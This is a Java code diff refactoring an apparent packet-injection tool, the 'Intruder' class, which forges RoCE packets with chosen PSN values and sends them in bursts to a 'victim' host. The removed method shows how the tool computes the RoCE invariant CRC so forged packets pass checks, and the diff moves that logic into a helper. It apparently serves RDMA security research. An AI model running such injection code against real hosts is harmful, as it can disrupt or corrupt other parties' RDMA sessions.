@@ -4,11 +4,9 @@ import java.io.IOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
 import java.net.StandardProtocolFamily;
-import java.nio.ByteBuffer;
 import java.nio.channels.DatagramChannel;
 import java.util.HexFormat;
 import java.util.concurrent.locks.LockSupport;
-import java.util.zip.CRC32;
 import jdk.net.ExtendedSocketOptions;
 
 /**
@@ -19,8 +17,6 @@ import jdk.net.ExtendedSocketOptions;
  * PSN, step, and count; {@code seconds} comes first. Prints how many packets left.
  */
 final class Intruder {
-    private static final int IP_BYTES = 20;
-    private static final int COVERED_BYTES = 8 + IP_BYTES + 8;
     private static final int PSN_AT = 9;
     private static final int FIELDS = 4; // of a row
     private static final int BURST = 16;
@@ -63,34 +59,11 @@ final class Intruder {
             packet[PSN_AT] = (byte) (psn >> 16);
             packet[PSN_AT + 1] = (byte) (psn >> 8);
             packet[PSN_AT + 2] = (byte) psn;
-            channel.send(sealed(packet), victim);
+            channel.send(RoceSeal.sealed(packet, source, sourcePort, victim), victim);
             sent++;
             if (i % BURST == BURST - 1) {
                 LockSupport.parkNanos(PAUSE_NANOS); // what overflows the socket is no attack
             }
         }
-    }
-
-    private ByteBuffer sealed(byte[] packet) {
-        int udpBytes = 8 + packet.length + Integer.BYTES;
-        ByteBuffer covered = ByteBuffer.allocate(COVERED_BYTES + packet.length);
-        covered.putLong(-1L);
-        covered.put((byte) 0x45).put((byte) -1).putShort((short) (IP_BYTES + udpBytes));
-        covered.putShort((short) 0)
-                .putShort((short) 0x4000)
-                .put((byte) -1)
-                .put((byte) 17)
-                .putShort((short) -1);
-        covered.put(source.getAddress()).put(victim.getAddress().getAddress());
-        covered.putShort((short) sourcePort).putShort((short) victim.getPort());
-        covered.putShort((short) udpBytes).putShort((short) -1);
-        covered.put(packet);
-        covered.put(COVERED_BYTES + 4, (byte) -1); // the byte that routers may change
-        CRC32 crc = new CRC32();
-        crc.update(covered.flip());
-        ByteBuffer whole = ByteBuffer.allocate(packet.length + Integer.BYTES);
-        return whole.put(packet)
-                .putInt(Integer.reverseBytes((int) crc.getValue()))
-                .flip();
     }
 }
